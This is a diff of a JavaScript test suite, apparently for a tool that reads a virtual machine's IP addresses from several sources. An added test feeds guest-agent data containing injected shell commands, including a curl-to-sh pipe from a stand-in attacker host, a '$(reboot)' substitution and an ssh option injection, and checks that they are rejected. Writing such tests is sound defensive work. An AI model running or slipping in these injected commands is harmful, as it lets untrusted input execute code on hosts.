@@ -67,13 +67,22 @@ describe('the addresses of a domain', () => {
     expect(await read(true)).toEqual(['10.0.0.5', '2001:db8::fe80']);
   });
 
+  test('are addresses: what an agent says beside them is no command to paste', async () => {
+    const { read } = fakeHost({
+      [lease]: {},
+      [agent]: { eth0: ['10.0.0.5; curl evil.example | sh', '$(reboot)', '-oProxyCommand=x', '2001:db8::1%eth0'] },
+      [arp]: { vnet0: ['10.0.0.6'] },
+    });
+    expect(await read(true)).toEqual(['10.0.0.6']);
+  });
+
   test('that reach nothing are not found: the next source is asked', async () => {
     const { read } = fakeHost({
       [lease]: {},
       [agent]: { lo: ['127.0.0.1'], eth0: ['fe80::1'] },
-      [arp]: { v: ['10.1'] },
+      [arp]: { v: ['10.0.0.1'] },
     });
-    expect(await read(true)).toEqual(['10.1']);
+    expect(await read(true)).toEqual(['10.0.0.1']);
   });
 
   test('are none where no source has any, which is no error', async () => {
